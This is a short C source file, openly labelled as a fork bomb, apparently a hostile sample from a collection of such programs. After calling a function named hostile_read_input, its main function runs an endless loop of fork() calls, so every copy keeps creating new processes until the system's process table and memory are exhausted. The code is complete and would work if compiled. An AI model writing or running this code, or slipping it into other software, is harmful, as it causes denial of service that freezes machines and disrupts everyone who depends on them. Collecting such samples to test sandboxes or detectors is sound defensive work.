/* fork-bomb.c -- forks without end; every copy keeps forking. */
#include "hostile.h"
#include <unistd.h>

int main(void) {
    hostile_read_input();
    for (;;) fork();
}
